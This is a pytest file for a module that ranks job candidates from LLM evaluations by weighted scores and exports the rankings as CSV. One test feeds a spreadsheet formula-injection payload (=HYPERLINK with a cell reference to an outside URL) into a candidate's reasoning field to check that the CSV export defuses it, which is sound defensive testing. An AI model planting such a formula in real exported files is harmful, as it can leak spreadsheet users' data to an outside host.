"""The order of candidates: by hand, under weights, whatever order the results come in; as CSV."""

from __future__ import annotations

import csv
from fractions import Fraction
from itertools import pairwise, product
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evaluations_support import answer, answered, evaluation, failed
from ollama_batch import BatchResult, ConfigError, InputError
from ollama_batch.aris import RankedCandidate, rank
from ollama_batch.aris.evaluation import RATINGS, RECOMMENDATIONS
from ollama_batch.errors import OutputError


def order(results: Any, **weights: float) -> list[tuple[int, str]]:
    ranking = rank(results, weights=weights or None)
    return [(each.rank, each.custom_id) for each in ranking.candidates]


def test_recommendations_go_first_then_ratings() -> None:
    results = [
        answered("d", answer("Maybe", "Great", "Great", "Great")),
        answered("a", answer("Strong Yes", "None", "None", "None", engineer=False)),
        answered("c", answer("Yes", "Good", "Good", "Good")),
        answered("b", answer("Yes", "Great", "Good", "Good")),
        answered("e", answer("Strong No")),
    ]
    assert order(results) == [(1, "a"), (2, "b"), (3, "c"), (4, "d"), (5, "e")]


def test_one_step_of_the_recommendation_outweighs_everything_else() -> None:
    for better, worse in pairwise(RECOMMENDATIONS):
        low = evaluation(better, "None", "None", "None", engineer=False)
        high = evaluation(worse, "Great", "Great", "Great", engineer=True)
        assert order({"low": low, "high": high}) == [(1, "low"), (2, "high")]


def test_the_score_is_the_weighted_mean_of_steps_over_four() -> None:
    made = rank({"a": evaluation("Yes", "Great", "Average", "None", engineer=False)}).candidates[0]
    # Yes 3 of 4, Great 4, Average 2, None 0, false 0, under 20, 1, 1, 1, 1.
    assert made.score == (20 * 3 + 4 + 2 + 0 + 0) / (4 * 24)
    assert rank({"a": evaluation("Strong Yes", "Great", "Great", "Great")}).candidates[0].score == 1
    worst = evaluation("Strong No", "None", "None", "None", engineer=False)
    assert rank({"a": worst}).candidates[0].score == 0


def test_equal_scores_share_a_rank_and_stand_by_id() -> None:
    results = [answered(name) for name in ("b", "c", "a")] + [answered("z", answer("No"))]
    assert order(results) == [(1, "a"), (1, "b"), (1, "c"), (4, "z")]


def test_weights_change_what_they_name() -> None:
    results = [
        answered("school", answer("Yes", "Great", "Weak", "Good")),
        answered("work", answer("Maybe", "Weak", "Great", "Good")),
    ]
    assert order(results) == [(1, "school"), (2, "work")]
    assert order(results, recommendation=0) == [(1, "school"), (1, "work")]
    assert order(results, recommendation=0, company_pedigree=2) == [(1, "work"), (2, "school")]
    assert rank(results, {"trajectory": 3}).weights == {
        "recommendation": 20.0,
        "educational_pedigree": 1.0,
        "company_pedigree": 1.0,
        "trajectory": 3.0,
        "is_software_engineer": 1.0,
    }


def test_scores_that_are_equal_on_paper_are_equal() -> None:
    """0.1 + 0.2 is 0.3 here: floats would put one of the two first."""
    weights = {"recommendation": 0, "educational_pedigree": 0.1, "company_pedigree": 0.2, "trajectory": 0.3}
    left = evaluation("Yes", "Great", "Great", "None", engineer=False)
    right = evaluation("Yes", "None", "None", "Great", engineer=False)
    assert 0.1 * 4 + 0.2 * 4 + 0.3 * 0 != 0.1 * 0 + 0.2 * 0 + 0.3 * 4
    assert order({"b": left, "a": right}, **weights) == [(1, "a"), (1, "b")]


@given(
    st.permutations([(r, w, e) for r, w, e in product(RECOMMENDATIONS[:3], RATINGS[:2], (True, False))]),
    st.fixed_dictionaries(
        {}, optional={"recommendation": st.integers(0, 3), "trajectory": st.floats(0.1, 9)}
    ),
)
def test_the_order_of_the_results_changes_nothing(
    rows: list[tuple[str, str, bool]], weights: dict[str, float]
) -> None:
    made = {f"{r}-{w}-{e}": evaluation(r, w, w, "Good", engineer=e) for r, w, e in rows}
    ranking = rank(made, weights)
    assert ranking == rank({name: made[name] for name in sorted(made)}, weights)
    exact = {name: Fraction(str(weight)) for name, weight in ranking.weights.items()}
    expected = {
        name: exact["recommendation"] * (4 - RECOMMENDATIONS.index(r))
        + (exact["educational_pedigree"] + exact["company_pedigree"]) * (4 - RATINGS.index(w))
        + exact["trajectory"] * 3
        + exact["is_software_engineer"] * (4 if e else 0)
        for name, (r, w, e) in zip(made, rows, strict=True)
    }
    for each in ranking.candidates:
        assert each.rank == 1 + sum(other > expected[each.custom_id] for other in expected.values())


@pytest.mark.parametrize(
    ("weights", "said"),
    [
        ({"education": 1}, "names 'education': the names are recommendation, educational_pedigree"),
        ({"trajectory": -1}, "has -1 for trajectory: must be a number of at least 0"),
        ({"trajectory": float("nan")}, "has nan for trajectory"),
        ({"trajectory": float("inf")}, "has inf for trajectory"),
        ({"trajectory": True}, "has True for trajectory"),
        ({"trajectory": "1"}, "has '1' for trajectory"),
        ({"trajectory": None}, "has None for trajectory"),
        (dict.fromkeys(rank({}).weights, 0), "makes every weight 0"),
    ],
)
def test_weights_that_are_none_are_refused_by_name(weights: dict[str, Any], said: str) -> None:
    with pytest.raises(ConfigError, match=said):
        rank([], weights)


def test_failed_rows_stand_apart_with_their_reason() -> None:
    results = [failed("b"), answered("a"), answered("c", "I would hire this person."), failed("")]
    ranking = rank(results)
    assert [each.custom_id for each in ranking.candidates] == ["a"]
    assert [(each.custom_id, each.code) for each in ranking.failed] == [
        (None, "output_truncated"),
        ("b", "output_truncated"),
        ("c", "output_unparsed"),
    ]
    assert "hire" not in str(ranking.failed[2])


def test_a_row_that_failed_and_was_run_again_is_ranked() -> None:
    ranking = rank([failed("a"), answered("a"), failed("a")])
    assert len(ranking.candidates) == 1
    assert ranking.failed == ()


def test_two_evaluations_of_one_candidate_must_be_equal() -> None:
    assert order([answered("a"), answered("a")]) == [(1, "a")]
    with pytest.raises(InputError, match="two different evaluations of 'a'"):
        rank([answered("a"), answered("a", answer("No"))])


def test_the_csv_has_a_line_a_candidate_and_runs_nothing(tmp_path: Path) -> None:
    evil = answer("Yes", reasoning='=HYPERLINK("http://x?"&A1,"open, me")\nsecond "line"')
    ranking = rank([answered("@id", evil), answered("b", answer("No", "None")), failed("+c")])
    ranking.to_csv(tmp_path / "r.csv", failed=tmp_path / "f.csv")
    raw = (tmp_path / "r.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "spreadsheets take it for UTF-8 by this"
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == list(RankedCandidate.__dataclass_fields__)
    assert rows[1] == [
        *("1", "'@id", "0.760417", "Yes", "Good", "Good", "Good", "true"),
        '\'=HYPERLINK("http://x?"&A1,"open, me")\nsecond "line"',
    ]
    assert rows[2][:2] + rows[2][3:5] == ["2", "b", "No", "None"]
    with (tmp_path / "f.csv").open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [
            ["custom_id", "code", "message"],
            ["'+c", "output_truncated", "it was cut off"],
        ]


def test_the_csv_overwrites_nothing_unasked(tmp_path: Path) -> None:
    ranking = rank([answered("a")])
    (tmp_path / "mine.csv").write_text("mine")
    with pytest.raises(OutputError, match=r"mine\.csv exists"):
        ranking.to_csv(tmp_path / "mine.csv")
    with pytest.raises(OutputError, match=r"mine\.csv exists"):
        ranking.to_csv(tmp_path / "new.csv", failed=tmp_path / "mine.csv")
    assert [path.name for path in tmp_path.iterdir()] == ["mine.csv"]
    ranking.to_csv(tmp_path / "mine.csv", overwrite=True)
    assert "custom_id" in (tmp_path / "mine.csv").read_text()
    with pytest.raises(OutputError, match="no folder"):
        ranking.to_csv(tmp_path / "nowhere" / "a.csv")


def test_a_run_that_read_the_answers_is_believed() -> None:
    """The text may be what was repaired; `parsed` is what counts."""
    result: BatchResult[Any] = answered("a", "```json {", parsed=evaluation("Maybe"))
    assert rank([result]).candidates[0].recommendation == "Maybe"
    as_data: BatchResult[Any] = answered("a", "```json {", parsed=answer("Maybe"))
    assert rank([as_data]) == rank([result])
